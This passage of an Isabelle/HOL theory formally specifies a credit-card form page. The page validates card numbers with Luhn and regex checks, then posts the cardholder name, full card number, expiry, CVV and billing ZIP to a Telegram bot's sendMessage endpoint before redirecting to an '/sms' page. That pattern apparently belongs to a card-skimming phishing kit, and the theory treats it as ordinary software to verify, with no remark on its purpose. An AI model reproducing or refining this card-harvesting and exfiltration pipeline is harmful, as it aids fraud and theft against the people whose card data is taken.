theory Spec2Isabelle
  imports Main "HOL-Library.Word"
begin

section \<open>Strings\<close>

text \<open>
  A string of the page is a sequence of UTF-16 code units: \<open>length\<close> counts code units,
  as \<open>String.prototype.length\<close> does, and the character classes of the regular
  expressions of \<open>page.tsx\<close> (none has the \<open>u\<close> flag) test one code unit at a time.
  \<open>str\<close> writes an ASCII literal.
\<close>

type_synonym jschar = "16 word"
type_synonym jsstring = "jschar list"

definition str :: "string \<Rightarrow> jsstring" where
  "str cs = map of_char cs"

definition isDigit :: "jschar \<Rightarrow> bool" where
  \<comment> \<open>the class \<open>\d\<close>, that is \<open>[0-9]\<close>\<close>
  "isDigit c = (0x30 \<le> c \<and> c \<le> 0x39)"

definition strip_non_digits :: "jsstring \<Rightarrow> jsstring" where
  \<comment> \<open>\<open>s.replace(/\D/g, '')\<close>: every code unit outside \<open>[0-9]\<close> is removed\<close>
  "strip_non_digits s = filter isDigit s"

definition digitValue :: "jschar \<Rightarrow> nat" where
  \<comment> \<open>\<open>Number\<close> of a one-character string holding a digit\<close>
  "digitValue c = unat c - 48"


section \<open>Regular expressions\<close>

text \<open>
  The fragment of regular expressions that \<open>page.tsx\<close> uses: a literal character, a
  range \<open>[a-b]\<close>, a set \<open>[ab]\<close>, sequence, alternative \<open>|\<close>, bounded repetition
  \<open>{n}\<close> (\<open>iter\<close> runs a matcher \<open>n\<close> times in sequence) and the option \<open>?\<close>.
  \<open>run r s\<close> lists, in the order of a backtracking matcher, the remainders of \<open>s\<close> after each prefix that \<open>r\<close> matches; \<open>test r s\<close> is
  \<open>/^r$/.test(s)\<close>: some prefix matched by \<open>r\<close> is the whole of \<open>s\<close>.
\<close>

datatype regex =
    Chr jschar
  | Range jschar jschar
  | OneOf "jschar list"
  | Seq regex regex
  | Alt regex regex
  | Rep nat regex
  | Opt regex

fun iter :: "(jsstring \<Rightarrow> jsstring list) \<Rightarrow> nat \<Rightarrow> jsstring \<Rightarrow> jsstring list" where
  "iter f 0 s = [s]"
| "iter f (Suc n) s = concat (map (iter f n) (f s))"

fun run :: "regex \<Rightarrow> jsstring \<Rightarrow> jsstring list" where
  "run (Chr c) [] = []"
| "run (Chr c) (x # xs) = (if x = c then [xs] else [])"
| "run (Range lo hi) [] = []"
| "run (Range lo hi) (x # xs) = (if lo \<le> x \<and> x \<le> hi then [xs] else [])"
| "run (OneOf cs) [] = []"
| "run (OneOf cs) (x # xs) = (if x \<in> set cs then [xs] else [])"
| "run (Seq r1 r2) s = concat (map (run r2) (run r1 s))"
| "run (Alt r1 r2) s = run r1 s @ run r2 s"
| "run (Rep n r) s = iter (run r) n s"
| "run (Opt r) s = run r s @ [s]"

definition test :: "regex \<Rightarrow> jsstring \<Rightarrow> bool" where
  "test r s = ([] \<in> set (run r s))"

definition digit :: regex where
  "digit = Range 0x30 0x39"


section \<open>The utility functions of page.tsx\<close>

subsection \<open>getCardType\<close>

definition visa_re :: regex where
  \<comment> \<open>\<open>/^4[0-9]{12}(?:[0-9]{3})?$/\<close>\<close>
  "visa_re = Seq (Chr 0x34) (Seq (Rep 12 digit) (Opt (Rep 3 digit)))"

definition mastercard_re :: regex where
  \<comment> \<open>\<open>/^5[1-5][0-9]{14}$/\<close>\<close>
  "mastercard_re = Seq (Chr 0x35) (Seq (Range 0x31 0x35) (Rep 14 digit))"

definition amex_re :: regex where
  \<comment> \<open>\<open>/^3[47][0-9]{13}$/\<close>\<close>
  "amex_re = Seq (Chr 0x33) (Seq (OneOf [0x34, 0x37]) (Rep 13 digit))"

definition discover_re :: regex where
  \<comment> \<open>\<open>/^6(?:011|5[0-9]{2})[0-9]{12}$/\<close>\<close>
  "discover_re =
     Seq (Chr 0x36)
       (Seq (Alt (Seq (Chr 0x30) (Seq (Chr 0x31) (Chr 0x31))) (Seq (Chr 0x35) (Rep 2 digit)))
            (Rep 12 digit))"

definition Visa :: jsstring where "Visa = str ''Visa''"
definition MasterCard :: jsstring where "MasterCard = str ''MasterCard''"
definition AmericanExpress :: jsstring where "AmericanExpress = str ''American Express''"
definition Discover :: jsstring where "Discover = str ''Discover''"
definition Unknown :: jsstring where "Unknown = str ''Unknown''"

definition getCardType :: "jsstring \<Rightarrow> jsstring" where
  "getCardType number =
     (let cleaned = strip_non_digits number in
      if test visa_re cleaned then Visa
      else if test mastercard_re cleaned then MasterCard
      else if test amex_re cleaned then AmericanExpress
      else if test discover_re cleaned then Discover
      else Unknown)"

text \<open>The rules of card-type detection in the words of the specification, for comparison.\<close>

definition starts_with :: "jsstring \<Rightarrow> jsstring \<Rightarrow> bool" where
  "starts_with p s = (take (length p) s = p)"

definition spec_visa :: "jsstring \<Rightarrow> bool" where
  "spec_visa d = (starts_with (str ''4'') d \<and> (length d = 13 \<or> length d = 16))"

definition spec_mastercard :: "jsstring \<Rightarrow> bool" where
  "spec_mastercard d =
     (list_ex (\<lambda>p. starts_with (str p) d) [''51'', ''52'', ''53'', ''54'', ''55'']
      \<and> length d = 16)"

definition spec_amex :: "jsstring \<Rightarrow> bool" where
  "spec_amex d = ((starts_with (str ''34'') d \<or> starts_with (str ''37'') d) \<and> length d = 15)"

definition spec_discover :: "jsstring \<Rightarrow> bool" where
  "spec_discover d =
     ((starts_with (str ''6011'') d
       \<or> (starts_with (str ''65'') d \<and> list_all isDigit (take 2 (drop 2 d))))
      \<and> length d = 16)"

definition spec_detectCardType :: "jsstring \<Rightarrow> jsstring" where
  "spec_detectCardType number =
     (let d = filter isDigit number in
      if spec_visa d then Visa
      else if spec_mastercard d then MasterCard
      else if spec_amex d then AmericanExpress
      else if spec_discover d then Discover
      else Unknown)"

subsection \<open>isLuhnValid\<close>

text \<open>\<open>xs.reduce(f, acc)\<close>, whose callback receives the accumulator, the element and its index.\<close>

fun reduce_idx :: "('b \<Rightarrow> 'a \<Rightarrow> nat \<Rightarrow> 'b) \<Rightarrow> 'b \<Rightarrow> nat \<Rightarrow> 'a list \<Rightarrow> 'b" where
  "reduce_idx f acc idx [] = acc"
| "reduce_idx f acc idx (x # xs) = reduce_idx f (f acc x idx) (Suc idx) xs"

definition luhn_step :: "nat \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> nat" where
  "luhn_step acc d idx =
     (if idx mod 2 = 1
      then (let double = d * 2 in acc + (if double > 9 then double - 9 else double))
      else acc + d)"

definition isLuhnValid :: "jsstring \<Rightarrow> bool" where
  "isLuhnValid cardNum =
     (let digits = map digitValue (rev (strip_non_digits cardNum))
      in reduce_idx luhn_step 0 0 digits mod 10 = 0)"

text \<open>The algorithm in the words of the specification, for comparison.\<close>

definition spec_luhn_term :: "nat \<Rightarrow> nat \<Rightarrow> nat" where
  "spec_luhn_term i d = (if odd i then (if 9 < 2 * d then 2 * d - 9 else 2 * d) else d)"

definition spec_isLuhnValid :: "jsstring \<Rightarrow> bool" where
  "spec_isLuhnValid s =
     (let ds = rev (filter isDigit s)
      in 10 dvd (\<Sum>i<length ds. spec_luhn_term i (digitValue (ds ! i))))"


subsection \<open>isCVVValid\<close>

definition isCVVValid :: "jsstring \<Rightarrow> jsstring \<Rightarrow> bool" where
  \<comment> \<open>\<open>/^\d{4}$/\<close> for American Express, \<open>/^\d{3}$/\<close> otherwise\<close>
  "isCVVValid cvv cardType =
     (if cardType = AmericanExpress then test (Rep 4 digit) cvv else test (Rep 3 digit) cvv)"

subsection \<open>isExpiryValid\<close>

text \<open>
  \<open>s.split(sep)\<close> for a one-character separator: the segments between the occurrences
  of \<open>sep\<close>; a string without the separator (the empty string too) is one segment.
\<close>

fun split :: "jschar \<Rightarrow> jsstring \<Rightarrow> jsstring list" where
  "split sep [] = [[]]"
| "split sep (c # cs) =
     (if c = sep then [] # split sep cs
      else (case split sep cs of [] \<Rightarrow> [[c]] | seg # segs \<Rightarrow> (c # seg) # segs))"

text \<open>
  The array pattern \<open>const [month, year] = parts\<close> reads the elements 0 and 1; an element
  that the array does not have is \<open>undefined\<close>, here \<open>None\<close>. Further elements are not read.
\<close>

fun element :: "'a list \<Rightarrow> nat \<Rightarrow> 'a option" where
  "element [] i = None"
| "element (x # xs) 0 = Some x"
| "element (x # xs) (Suc i) = element xs i"

text \<open>
  \<open>parseInt(s)\<close> without a radix, after ECMAScript: leading white space is dropped, then a
  sign, then a prefix \<open>0x\<close> or \<open>0X\<close> (which selects radix 16), then the longest run of
  digits of the radix is read; no digit gives \<open>NaN\<close>, here \<open>None\<close>. The value is the
  mathematical integer; it is the Number that JavaScript returns as long as it is below
  \<open>2^53\<close>, which holds for the two-character strings that \<open>isExpiryValid\<close> passes.
\<close>

definition isWhiteSpace :: "jschar \<Rightarrow> bool" where
  "isWhiteSpace c =
     (c \<in> set [0x0009, 0x000A, 0x000B, 0x000C, 0x000D, 0x0020, 0x00A0, 0x1680,
                0x2028, 0x2029, 0x202F, 0x205F, 0x3000, 0xFEFF]
      \<or> (0x2000 \<le> c \<and> c \<le> 0x200A))"

definition radixDigit :: "nat \<Rightarrow> jschar \<Rightarrow> nat option" where
  "radixDigit R c =
     (let v = (if 0x30 \<le> c \<and> c \<le> 0x39 then unat c - 0x30
               else if 0x61 \<le> c \<and> c \<le> 0x7A then unat c - 0x61 + 10
               else if 0x41 \<le> c \<and> c \<le> 0x5A then unat c - 0x41 + 10
               else R)
      in if v < R then Some v else None)"

fun digitValues :: "nat \<Rightarrow> jsstring \<Rightarrow> nat list" where
  \<comment> \<open>the values of the longest prefix of digits of radix \<open>R\<close>\<close>
  "digitValues R [] = []"
| "digitValues R (c # cs) =
     (case radixDigit R c of None \<Rightarrow> [] | Some v \<Rightarrow> v # digitValues R cs)"

definition parseInt :: "jsstring \<Rightarrow> int option" where
  "parseInt s =
     (let S = dropWhile isWhiteSpace s;
          sign = (if S \<noteq> [] \<and> hd S = 0x2D then - 1 else 1 :: int);
          S1 = (if S \<noteq> [] \<and> (hd S = 0x2B \<or> hd S = 0x2D) then tl S else S);
          hex = (2 \<le> length S1 \<and> (take 2 S1 = str ''0x'' \<or> take 2 S1 = str ''0X''));
          R = (if hex then 16 else 10);
          Z = digitValues R (if hex then drop 2 S1 else S1)
      in if Z = [] then None else Some (sign * int (foldl (\<lambda>a v. a * R + v) 0 Z)))"

text \<open>
  Numbers that may be \<open>NaN\<close>: \<open>None\<close> is \<open>NaN\<close>, which every arithmetic operation
  propagates and on which every comparison is false.
\<close>

definition num_add :: "int option \<Rightarrow> int option \<Rightarrow> int option" where
  "num_add a b = (case (a, b) of (Some x, Some y) \<Rightarrow> Some (x + y) | _ \<Rightarrow> None)"

definition num_sub :: "int option \<Rightarrow> int option \<Rightarrow> int option" where
  "num_sub a b = (case (a, b) of (Some x, Some y) \<Rightarrow> Some (x - y) | _ \<Rightarrow> None)"

definition num_gt :: "int option \<Rightarrow> int option \<Rightarrow> bool" where
  "num_gt a b = (case (a, b) of (Some x, Some y) \<Rightarrow> y < x | _ \<Rightarrow> False)"

text \<open>
  The time value of \<open>new Date(year, month, date)\<close>, in milliseconds since the epoch,
  after ECMAScript (\<open>MakeFullYear\<close>, \<open>MakeDay\<close>, \<open>MakeDate\<close>, \<open>UTC\<close>, \<open>TimeClip\<close>). The
  date is a local one; \<open>utc\<close>, the conversion of a local time value to UTC, depends on
  the time zone of the browser and is a parameter.
\<close>

definition msPerDay :: int where
  "msPerDay = 86400000"

definition DayFromYear :: "int \<Rightarrow> int" where
  "DayFromYear y =
     365 * (y - 1970) + (y - 1969) div 4 - (y - 1901) div 100 + (y - 1601) div 400"

definition InLeapYear :: "int \<Rightarrow> bool" where
  "InLeapYear y = (y mod 4 = 0 \<and> (y mod 100 \<noteq> 0 \<or> y mod 400 = 0))"

definition DayWithinYear :: "bool \<Rightarrow> int \<Rightarrow> int" where
  \<comment> \<open>the day number, in its year, of the first day of month \<open>mn\<close> (0 to 11)\<close>
  "DayWithinYear leap mn =
     [0, 31, 59, 90, 120, 151, 181, 212, 243, 273, 304, 334] ! nat mn
     + (if leap \<and> 2 \<le> mn then 1 else 0)"

definition MakeFullYear :: "int \<Rightarrow> int" where
  "MakeFullYear y = (if 0 \<le> y \<and> y \<le> 99 then 1900 + y else y)"

definition MakeDay :: "int \<Rightarrow> int \<Rightarrow> int \<Rightarrow> int" where
  "MakeDay year month date =
     (let ym = year + month div 12;
          mn = month mod 12
      in DayFromYear ym + DayWithinYear (InLeapYear ym) mn + date - 1)"

definition MakeDate :: "int \<Rightarrow> int \<Rightarrow> int" where
  "MakeDate day time = day * msPerDay + time"

definition TimeClip :: "int \<Rightarrow> int option" where
  "TimeClip t = (if 8640000000000000 < \<bar>t\<bar> then None else Some t)"

definition newDate :: "(int \<Rightarrow> int) \<Rightarrow> int option \<Rightarrow> int option \<Rightarrow> int \<Rightarrow> int option" where
  "newDate utc year month date =
     (case (year, month) of
        (Some y, Some m) \<Rightarrow> TimeClip (utc (MakeDate (MakeDay (MakeFullYear y) m date) 0))
      | _ \<Rightarrow> None)"

text \<open>
  The one operation of \<open>isExpiryValid\<close> that can throw is the read of \<open>length\<close>, a
  \<open>TypeError\<close> on \<open>undefined\<close>. \<open>!v\<close> holds of \<open>undefined\<close> and of the empty string, and
  \<open>||\<close> evaluates its right operand only when the left one is false. \<open>parseInt\<close> applies
  \<open>ToString\<close> to its argument first.
\<close>

datatype jsError = TypeError

definition falsy :: "jsstring option \<Rightarrow> bool" where
  "falsy v = (v = None \<or> v = Some [])"

definition lengthOf :: "jsstring option \<Rightarrow> jsError + nat" where
  "lengthOf v = (case v of None \<Rightarrow> Inl TypeError | Some s \<Rightarrow> Inr (length s))"

definition parseIntOf :: "jsstring option \<Rightarrow> int option" where
  "parseIntOf v = (case v of None \<Rightarrow> parseInt (str ''undefined'') | Some s \<Rightarrow> parseInt s)"

text \<open>\<open>now\<close> is the time value of \<open>new Date()\<close> at the moment of the call.\<close>

definition isExpiryValid :: "(int \<Rightarrow> int) \<Rightarrow> int \<Rightarrow> jsstring \<Rightarrow> jsError + bool" where
  "isExpiryValid utc now expiry =
     (let parts = split 0x2F expiry;
          month = element parts 0;
          year = element parts 1
      in if falsy month then Inr False
         else if falsy year then Inr False
         else (case lengthOf month of
                 Inl err \<Rightarrow> Inl err
               | Inr lm \<Rightarrow>
                   if lm \<noteq> 2 then Inr False
                   else (case lengthOf year of
                           Inl err \<Rightarrow> Inl err
                         | Inr ly \<Rightarrow>
                             if ly \<noteq> 2 then Inr False
                             else Inr (num_gt
                                    (newDate utc (num_add (Some 2000) (parseIntOf year))
                                       (num_sub (parseIntOf month) (Some 1)) 1)
                                    (Some now)))))"


section \<open>The page component\<close>

subsection \<open>State\<close>

record formData =
  cardholder :: jsstring
  cardNumber :: jsstring
  expiry :: jsstring
  cvv :: jsstring
  billingZip :: jsstring

text \<open>The four \<open>useState\<close> cells of \<open>CreditCardInfoPage\<close>, with their initial values.\<close>

record page =
  formData :: formData
  alertVisible :: bool
  isSubmitting :: bool
  cardType :: jsstring

definition initialPage :: page where
  "initialPage =
     \<lparr>formData = \<lparr>cardholder = [], cardNumber = [], expiry = [], cvv = [], billingZip = []\<rparr>,
      alertVisible = False, isSubmitting = False, cardType = []\<rparr>"

subsection \<open>handleChange and the card-type effect\<close>

text \<open>The five inputs of the form carry these names; \<open>handleChange\<close> writes the named field.\<close>

datatype field = Cardholder | CardNumber | Expiry | Cvv | BillingZip

fun setField :: "field \<Rightarrow> jsstring \<Rightarrow> formData \<Rightarrow> formData" where
  "setField Cardholder v prev = prev\<lparr>cardholder := v\<rparr>"
| "setField CardNumber v prev = prev\<lparr>cardNumber := v\<rparr>"
| "setField Expiry v prev = prev\<lparr>expiry := v\<rparr>"
| "setField Cvv v prev = prev\<lparr>cvv := v\<rparr>"
| "setField BillingZip v prev = prev\<lparr>billingZip := v\<rparr>"

definition handleChange :: "field \<Rightarrow> jsstring \<Rightarrow> page \<Rightarrow> page" where
  "handleChange name v p = p\<lparr>formData := setField name v (formData p)\<rparr>"

definition cardTypeEffect :: "page \<Rightarrow> page" where
  \<comment> \<open>the body of the \<open>useEffect\<close> whose dependency is \<open>formData.cardNumber\<close>\<close>
  "cardTypeEffect p = p\<lparr>cardType := getCardType (cardNumber (formData p))\<rparr>"

subsection \<open>handleSubmit\<close>

text \<open>
  What \<open>handleSubmit\<close> does beyond updating the state, in the order in which it does it.
  A request body is the list of its keys and values.
\<close>

datatype effect =
    PreventDefault
  | SetAlertVisible bool
  | SetIsSubmitting bool
  | Alert jsstring
  | AxiosPost jsstring "(jsstring \<times> jsstring) list"
  | SetTimeoutRouterPush jsstring nat
  | ConsoleError jsstring
  | Uncaught jsError

datatype postResult = Resolved | Rejected

text \<open>
  What \<open>handleSubmit\<close> reads from outside the component: the time value of \<open>new Date()\<close>
  in \<open>isExpiryValid\<close> and the time zone, the text of \<open>new Date().toLocaleString()\<close>, the
  outcome of the awaited request, and the two constants of \<open>../lib/telegramConfig\<close>,
  a module that is not part of the sources at hand.
\<close>

record env =
  now :: int
  utc :: "int \<Rightarrow> int"
  localeString :: jsstring
  postResult :: postResult
  TELEGRAM_BOT_TOKEN :: jsstring
  TELEGRAM_CHAT_ID :: jsstring

definition crossMark :: jsstring where
  "crossMark = [0x274C]"

definition luhnNotice :: jsstring where
  "luhnNotice = crossMark @ str '' Invalid card number (Luhn check failed).''"

definition unknownNotice :: jsstring where
  "unknownNotice = crossMark @ str '' Unknown or unsupported card type.''"

definition expiryNotice :: jsstring where
  "expiryNotice = crossMark @ str '' Invalid or expired expiry date.''"

definition cvvNotice :: "jsstring \<Rightarrow> jsstring" where
  "cvvNotice ct =
     crossMark @ str '' CVV must be ''
     @ (if ct = AmericanExpress then str ''4'' else str ''3'') @ str '' digits.''"

definition failedNotice :: jsstring where
  "failedNotice = crossMark @ str '' Failed to send info.''"

definition LF :: jsstring where
  "LF = [0x000A]"

definition message :: "formData \<Rightarrow> jsstring \<Rightarrow> jsstring \<Rightarrow> jsstring" where
  \<comment> \<open>the template literal of lines 95 to 105, from the opening to the closing backquote\<close>
  "message fd ct ts =
     LF
     @ [0xD83D, 0xDCB3] @ str '' *Credit Card Info Submitted*'' @ LF
     @ str ''-------------------------------'' @ LF
     @ [0xD83D, 0xDC64] @ str '' *Cardholder:* '' @ cardholder fd @ LF
     @ [0xD83D, 0xDCB3] @ str '' *Card Number:* '' @ cardNumber fd @ LF
     @ [0xD83C, 0xDFF7] @ str '' *Card Type:* '' @ ct @ LF
     @ [0xD83D, 0xDCC5] @ str '' *Expiry:* '' @ expiry fd @ LF
     @ [0xD83D, 0xDD12] @ str '' *CVV:* '' @ cvv fd @ LF
     @ [0xD83D, 0xDCEE] @ str '' *Billing ZIP:* '' @ billingZip fd @ LF
     @ [0xD83D, 0xDD52] @ str '' *Time:* '' @ ts @ LF
     @ str ''    ''"

definition sendMessageUrl :: "jsstring \<Rightarrow> jsstring" where
  "sendMessageUrl token = str ''https://api.telegram.org/bot'' @ token @ str ''/sendMessage''"

definition requestBody :: "jsstring \<Rightarrow> jsstring \<Rightarrow> (jsstring \<times> jsstring) list" where
  "requestBody chat text =
     [(str ''chat_id'', chat), (str ''text'', text), (str ''parse_mode'', str ''Markdown'')]"

text \<open>
  \<open>handleSubmit\<close> returns the state after the handler and the effects in order. The
  checks read the \<open>formData\<close> and the \<open>cardType\<close> of the state the handler was created in.
  The checks stand outside the \<open>try\<close> block: an exception there would leave the handler
  uncaught.
\<close>

definition handleSubmit :: "env \<Rightarrow> page \<Rightarrow> page \<times> effect list" where
  "handleSubmit e p =
     (let fd = formData p in
      if cardholder fd = [] \<or> cardNumber fd = [] \<or> expiry fd = [] \<or> cvv fd = []
         \<or> billingZip fd = []
      then (p\<lparr>alertVisible := True\<rparr>, [PreventDefault, SetAlertVisible True])
      else if \<not> isLuhnValid (cardNumber fd)
      then (p, [PreventDefault, Alert luhnNotice])
      else if cardType p = Unknown
      then (p, [PreventDefault, Alert unknownNotice])
      else case isExpiryValid (utc e) (now e) (expiry fd) of
        Inl err \<Rightarrow> (p, [PreventDefault, Uncaught err])
      | Inr valid \<Rightarrow>
      if \<not> valid
      then (p, [PreventDefault, Alert expiryNotice])
      else if \<not> isCVVValid (cvv fd) (cardType p)
      then (p, [PreventDefault, Alert (cvvNotice (cardType p))])
      else
        (let text = message fd (cardType p) (localeString e);
             request = AxiosPost (sendMessageUrl (TELEGRAM_BOT_TOKEN e))
                         (requestBody (TELEGRAM_CHAT_ID e) text)
         in case postResult e of
              Resolved \<Rightarrow>
                (p\<lparr>isSubmitting := True\<rparr>,
                 [PreventDefault, SetIsSubmitting True, request,
                  SetTimeoutRouterPush (str ''/sms'') 3000])
            | Rejected \<Rightarrow>
                (p\<lparr>isSubmitting := False\<rparr>,
                 [PreventDefault, SetIsSubmitting True, request, SetIsSubmitting False,
                  ConsoleError (str ''Telegram Error:''), Alert failedNotice])))"

definition posts :: "effect list \<Rightarrow> (jsstring \<times> (jsstring \<times> jsstring) list) list" where
  \<comment> \<open>the requests among the effects\<close>
  "posts es = concat (map (\<lambda>x. case x of AxiosPost url body \<Rightarrow> [(url, body)] | _ \<Rightarrow> []) es)"

text \<open>The message text as the specification's template gives it, line by line.\<close>

definition spec_message :: "formData \<Rightarrow> jsstring \<Rightarrow> jsstring \<Rightarrow> jsstring" where
  "spec_message fd ct ts =
     [0xD83D, 0xDCB3] @ str '' *Credit Card Info Submitted*'' @ LF
     @ str ''-------------------------------'' @ LF
     @ [0xD83D, 0xDC64] @ str '' *Cardholder:* '' @ cardholder fd @ LF
     @ [0xD83D, 0xDCB3] @ str '' *Card Number:* '' @ cardNumber fd @ LF
     @ [0xD83C, 0xDFF7] @ str '' *Card Type:* '' @ ct @ LF
     @ [0xD83D, 0xDCC5] @ str '' *Expiry:* '' @ expiry fd @ LF
     @ [0xD83D, 0xDD12] @ str '' *CVV:* '' @ cvv fd @ LF
     @ [0xD83D, 0xDCEE] @ str '' *Billing ZIP:* '' @ billingZip fd @ LF
     @ [0xD83D, 0xDD52] @ str '' *Time:* '' @ ts"

subsection \<open>The page as a transition system\<close>

text \<open>
  An event of the page is a change of an input, a run of the card-type effect, or a
  submission. React runs the effect after a render in which \<open>formData.cardNumber\<close>
  differs from the previous render's, and once after the first render: \<open>effectPending\<close>
  records that such a run is due. While \<open>isSubmitting\<close> holds the form is not rendered
  (the loading view replaces it), so no input changes and no submission happens.
\<close>

datatype event = Change field jsstring | RunEffect | Submit env

record ui =
  page :: page
  effectPending :: bool

definition initialUi :: ui where
  "initialUi = \<lparr>page = initialPage, effectPending = True\<rparr>"

fun step :: "ui \<Rightarrow> event \<Rightarrow> ui" where
  "step u (Change name v) =
     (if isSubmitting (page u) then u
      else \<lparr>page = handleChange name v (page u),
            effectPending =
              (effectPending u
               \<or> cardNumber (formData (handleChange name v (page u)))
                  \<noteq> cardNumber (formData (page u)))\<rparr>)"
| "step u RunEffect =
     (if effectPending u then \<lparr>page = cardTypeEffect (page u), effectPending = False\<rparr> else u)"
| "step u (Submit e) =
     (if isSubmitting (page u) then u else u\<lparr>page := fst (handleSubmit e (page u))\<rparr>)"

definition runEvents :: "event list \<Rightarrow> ui" where
  "runEvents evs = foldl step initialUi evs"


subsection \<open>Vocabulary of the claims\<close>

text \<open>
  The conditions of the submission pipeline, and the requests, log entries, notices and
  navigations among the effects of a run.
\<close>

definition checksPass :: "env \<Rightarrow> page \<Rightarrow> bool" where
  "checksPass e p =
     (cardholder (formData p) \<noteq> [] \<and> cardNumber (formData p) \<noteq> []
      \<and> expiry (formData p) \<noteq> [] \<and> cvv (formData p) \<noteq> [] \<and> billingZip (formData p) \<noteq> []
      \<and> isLuhnValid (cardNumber (formData p))
      \<and> cardType p \<noteq> Unknown
      \<and> isExpiryValid (utc e) (now e) (expiry (formData p)) = Inr True
      \<and> isCVVValid (cvv (formData p)) (cardType p))"

definition anyFieldEmpty :: "page \<Rightarrow> bool" where
  "anyFieldEmpty p =
     (cardholder (formData p) = [] \<or> cardNumber (formData p) = [] \<or> expiry (formData p) = []
      \<or> cvv (formData p) = [] \<or> billingZip (formData p) = [])"

definition postedTexts :: "effect list \<Rightarrow> jsstring list" where
  "postedTexts es =
     concat (map (\<lambda>(url, body). map snd (filter (\<lambda>kv. fst kv = str ''text'') body)) (posts es))"

definition logs :: "effect list \<Rightarrow> effect list" where
  "logs es = filter (\<lambda>x. case x of ConsoleError t \<Rightarrow> True | _ \<Rightarrow> False) es"

definition navigations :: "effect list \<Rightarrow> effect list" where
  "navigations es = filter (\<lambda>x. case x of SetTimeoutRouterPush r n \<Rightarrow> True | _ \<Rightarrow> False) es"

definition alerts :: "effect list \<Rightarrow> effect list" where
  "alerts es = filter (\<lambda>x. case x of Alert t \<Rightarrow> True | _ \<Rightarrow> False) es"

definition cardTypeCurrent :: "page \<Rightarrow> bool" where
  "cardTypeCurrent p = (cardType p = getCardType (cardNumber (formData p)))"

subsection \<open>Sample inputs\<close>

text \<open>
  A form that passes every check, on 2 November 2026 in a browser whose local time is UTC.
\<close>

definition sampleForm :: formData where
  "sampleForm =
     \<lparr>cardholder = str ''A B'', cardNumber = str ''4111 1111 1111 1111'',
      expiry = str ''12/99'', cvv = str ''123'', billingZip = str ''12345''\<rparr>"

definition samplePage :: page where
  "samplePage =
     \<lparr>formData = sampleForm, alertVisible = False, isSubmitting = False, cardType = Visa\<rparr>"

definition sampleEnv :: env where
  "sampleEnv =
     \<lparr>now = 1793577600000, utc = (\<lambda>t. t), localeString = str ''11/2/2026, 9:00:00 AM'',
      postResult = Resolved, TELEGRAM_BOT_TOKEN = str ''TOKEN'', TELEGRAM_CHAT_ID = str ''CHAT''\<rparr>"


section \<open>Properties\<close>

subsection \<open>The Luhn check\<close>

lemma reduce_idx_luhn:
  "reduce_idx luhn_step acc k ds = acc + (\<Sum>j<length ds. spec_luhn_term (k + j) (ds ! j))"
proof (induction ds arbitrary: acc k)
  case Nil
  show ?case by simp
next
  case (Cons d ds)
  have step: "luhn_step acc d k = acc + spec_luhn_term k d"
    by (simp add: luhn_step_def spec_luhn_term_def Let_def odd_iff_mod_2_eq_one mult.commute)
  show ?case
    by (simp add: Cons.IH step sum.lessThan_Suc_shift add.assoc del: sum.lessThan_Suc)
qed

lemma isLuhnValid_refines: "isLuhnValid s = spec_isLuhnValid s"
proof -
  define ds where "ds = rev (filter isDigit s)"
  have "(\<Sum>j<length ds. spec_luhn_term j (map digitValue ds ! j))
      = (\<Sum>j<length ds. spec_luhn_term j (digitValue (ds ! j)))"
    by (rule sum.cong) simp_all
  then have "reduce_idx luhn_step 0 0 (map digitValue ds)
      = (\<Sum>j<length ds. spec_luhn_term j (digitValue (ds ! j)))"
    by (simp add: reduce_idx_luhn)
  then show ?thesis
    by (simp add: isLuhnValid_def spec_isLuhnValid_def strip_non_digits_def Let_def
        ds_def mod_eq_0_iff_dvd)
qed

lemma isLuhnValid_vector_valid: "isLuhnValid (str ''4111111111111111'')"
  by (simp add: isLuhnValid_def strip_non_digits_def str_def isDigit_def digitValue_def
      luhn_step_def Let_def)

lemma isLuhnValid_vector_invalid: "\<not> isLuhnValid (str ''4111111111111112'')"
  by (simp add: isLuhnValid_def strip_non_digits_def str_def isDigit_def digitValue_def
      luhn_step_def Let_def)

text \<open>
  C4. For every input string, \<open>isLuhnValid\<close> strips the non-digits, reverses the digit
  sequence, doubles each digit at an odd 0-based reversed index (subtracting 9 when the
  double exceeds 9), keeps the digits at even indices, sums the results and answers
  whether the sum is divisible by 10. It accepts \<open>4111111111111111\<close> and rejects
  \<open>4111111111111112\<close>.
\<close>

theorem C4_isLuhnValid_spec:
  "isLuhnValid s = spec_isLuhnValid s
   \<and> isLuhnValid (str ''4111111111111111'') = True
   \<and> isLuhnValid (str ''4111111111111112'') = False"
  using isLuhnValid_refines isLuhnValid_vector_valid isLuhnValid_vector_invalid by simp

subsection \<open>Card-type detection\<close>

lemma run_digit: "isDigit x \<Longrightarrow> run digit (x # xs) = [xs]"
  by (simp add: digit_def isDigit_def)

lemma list_all_drop: "list_all P s \<Longrightarrow> list_all P (drop n s)"
  by (auto simp: list_all_iff dest: in_set_dropD)

lemma iter_digit:
  "list_all isDigit s \<Longrightarrow> iter (run digit) n s = (if n \<le> length s then [drop n s] else [])"
proof (induction n arbitrary: s)
  case 0
  show ?case by simp
next
  case (Suc n)
  show ?case
  proof (cases s)
    case Nil
    then show ?thesis by (simp add: digit_def)
  next
    case (Cons x xs)
    with Suc.prems have "isDigit x" "list_all isDigit xs" by simp_all
    then show ?thesis using Suc.IH [of xs] Cons by (simp add: run_digit)
  qed
qed

lemma test_visa:
  "list_all isDigit d \<Longrightarrow>
   test visa_re d = (\<exists>rest. d = 0x34 # rest \<and> (length rest = 12 \<or> length rest = 15))"
  by (cases d) (auto simp: test_def visa_re_def iter_digit list_all_drop)

lemma test_mastercard:
  "list_all isDigit d \<Longrightarrow>
   test mastercard_re d = (\<exists>x rest. d = 0x35 # x # rest \<and> length rest = 14 \<and> (0x31 \<le> x \<and> x \<le> 0x35))"
  by (cases d; cases "tl d") (auto simp: test_def mastercard_re_def iter_digit)

lemma test_amex:
  "list_all isDigit d \<Longrightarrow>
   test amex_re d = (\<exists>x rest. d = 0x33 # x # rest \<and> (x = 0x34 \<or> x = 0x37) \<and> length rest = 13)"
  by (cases d; cases "tl d") (auto simp: test_def amex_re_def iter_digit)

lemma test_discover:
  "list_all isDigit d \<Longrightarrow>
   test discover_re d =
     ((\<exists>rest. d = [0x36, 0x30, 0x31, 0x31] @ rest \<and> length rest = 12)
      \<or> (\<exists>a b rest. d = [0x36, 0x35, a, b] @ rest \<and> length rest = 12))"
  by (cases d; cases "tl d"; cases "tl (tl d)"; cases "tl (tl (tl d))")
     (auto simp: test_def discover_re_def iter_digit)

lemma visa_spec: "list_all isDigit d \<Longrightarrow> test visa_re d = spec_visa d"
